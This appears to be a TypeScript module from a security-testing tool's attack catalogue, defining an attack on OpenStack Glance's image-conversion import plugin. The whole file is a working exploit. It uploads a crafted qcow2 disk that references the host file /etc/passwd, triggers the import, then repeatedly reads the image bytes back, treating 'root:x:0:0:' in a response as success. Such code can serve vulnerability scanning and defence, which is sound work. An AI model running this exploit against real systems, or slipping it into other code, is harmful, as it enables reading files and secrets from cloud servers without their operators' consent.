// The attack on the plugin that converts: a disk that names a file of the Glance host, read back as the image.
import { composeQcow2OnFile } from './attack-files';
import type { ApiCall, AttackGround, CallAttack } from './attack-step';
import { createImage } from './sharing-attacks';

/** Of requests for the bytes, one after the other, while the import goes on; a conversion took twenty. */
const READS = 200;
const bytes: ApiCall = { method: 'GET', path: '/v2/images/{image}/file', keepBytes: 24 };

function isConverting({ files }: AttackGround): boolean {
  return [...files.values()].some((text) => /^image_import_plugins *=.*image_conversion/m.test(text));
}

/** Sorted as the catalogue is. */
export const conversionAttacks: readonly CallAttack[] = [
  {
    id: 'formats-conversion-host-file',
    kind: 'calls',
    isTold: isConverting,
    plan: () => ({
      rounds: [
        {
          calls: [
            createImage({ disk_format: 'qcow2' }),
            {
              method: 'PUT',
              path: '/v2/images/{image}/stage',
              base64: composeQcow2OnFile('/etc/passwd').toString('base64'),
            },
            { method: 'POST', path: '/v2/images/{image}/import', body: { method: { name: 'glance-direct' } } },
          ],
        },
        { times: READS, calls: [bytes] },
      ],
    }),
    hasWorked: ({ answers = [] }) => answers.some(({ status, body }) => status === 200 && body.includes('root:x:0:0:')),
  },
];
